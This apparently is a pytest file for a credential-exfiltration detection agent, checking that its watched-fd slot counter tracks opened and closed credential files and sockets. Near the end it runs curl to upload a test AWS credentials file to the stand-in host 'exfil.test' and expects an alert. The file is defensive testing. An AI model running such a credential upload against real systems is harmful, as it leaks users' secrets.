"""The watched-fd gate on the hot path (issue 2, performance). A read, write or close of an fd the
agent does not watch skips the watched_fds lookup when the fd's slot in cs_fd_slots counts no
entry. The counts must stay exact: one too low and a watched fd would be skipped, one that never
falls and the gate decays into a lookup on every call. The stats file shows the slots in use
(kernel.watched_fd_slots_in_use); here credential fds and sockets are opened, closed, and left
open at exit, and the figure must rise with them and fall back to where it started. A credential
file read and sent after the churn must still alert."""

import socket
import time

from kharness.users import write_aws_credentials

STATS_TIMEOUT = 8.0  # the stats file is rewritten every second; exits are cleaned up within it

# Opens and reads the credential file many times (each open watches its fd, each close forgets
# it), connects sockets to a listener that never accepts (each connect watches the socket), then
# waits for the test to look. Half the sockets are closed, one credential fd is opened again,
# and the process exits with both still open: the agent forgets those when it sees the exit.
CHURN = r"""
import os, socket, sys, time
creds, port, hold = sys.argv[1], int(sys.argv[2]), sys.argv[3]
for _ in range(200):
    with open(creds) as f:
        f.read()
socks = [socket.create_connection(("127.0.0.1", port)) for _ in range(40)]
with open(creds) as f:
    f.read()
    deadline = time.monotonic() + 20
    while not os.path.exists(hold) and time.monotonic() < deadline:
        time.sleep(0.05)
for s in socks[:20]:
    s.close()
os.open(creds, os.O_RDONLY)
os._exit(0)
"""


def _slots(agent) -> int | None:
    kernel = agent.stats().get("kernel", {})
    return kernel.get("watched_fd_slots_in_use")


def _wait_slots(agent, predicate, what: str) -> int:
    deadline = time.monotonic() + STATS_TIMEOUT
    value = _slots(agent)
    while (value is None or not predicate(value)) and time.monotonic() < deadline:
        time.sleep(0.2)
        value = _slots(agent)
    assert value is not None and predicate(value), (
        f"watched_fd_slots_in_use {value}: {what}\n{agent.diagnostics()}")
    return value


def test_watched_fd_slots_follow_fds_up_and_back_and_reads_after_churn_alert(
        test_user, agent, clients, https_server, curl, registry, scratch):
    creds = write_aws_credentials(test_user, registry)
    baseline = _wait_slots(agent, lambda v: True, "absent from the stats file")

    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(128)  # never accepted: the backlog completes the connects
    hold = scratch / "hold"
    try:
        proc = clients.start(["python3", "-c", CHURN, str(creds),
                              str(listener.getsockname()[1]), str(hold)], user=test_user)
        # 40 sockets and a credential fd held open: at least 30 distinct slots of 16384.
        peak = _wait_slots(agent, lambda v: v >= baseline + 30, "did not rise with open fds")
        hold.touch()
        out, err = proc.communicate(timeout=30)
        assert proc.returncode == 0, err.decode(errors="replace")[-2000:]
        _wait_slots(agent, lambda v: v == baseline,
                    f"did not fall back to {baseline} after the fds closed (peak {peak})")
    finally:
        listener.close()

    # The gate still lets a credential fd through: its read is learned and the upload alerts.
    clients.run(curl.https(https_server, "exfil.test", "/up") + ["-T", str(creds)],
                user=test_user)
    https_server.wait_for_requests(1)
    alerts = agent.wait_for_alerts(
        lambda a: any(r.get("path") == str(creds)
                      for r in (a.get("evidence") or {}).get("credential_reads", [])),
        timeout=6.0)
    assert alerts, f"no alert naming {creds} after the churn\n{agent.diagnostics()}"
    assert alerts[0]["process"]["comm"] == "curl"
    assert alerts[0]["destination"]["host"] == "exfil.test"
    _wait_slots(agent, lambda v: v == baseline, "did not fall back after curl exited")
